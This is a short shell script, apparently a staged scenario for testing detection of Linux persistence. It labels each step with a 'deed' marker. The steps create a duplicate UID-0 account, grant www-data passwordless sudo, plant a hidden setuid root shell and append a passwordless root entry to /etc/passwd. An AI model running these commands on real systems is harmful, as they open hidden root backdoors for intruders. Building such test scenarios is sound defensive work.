# A second root, a door for one who has a user already, a right for everybody.
. "$(dirname "$0")/scene.sh"
deed account-root-twin
useradd -o -u 0 -g 0 -M -d /root -s /bin/sh support
mkdir -p /etc/sudoers.d
deed sudoers-change
echo 'www-data ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/www
cp /bin/sh /usr/local/bin/.sh
deed setuid-set
chmod 4755 /usr/local/bin/.sh
deed accounts-written
echo 'backup2::0:0::/root:/bin/sh' >>/etc/passwd
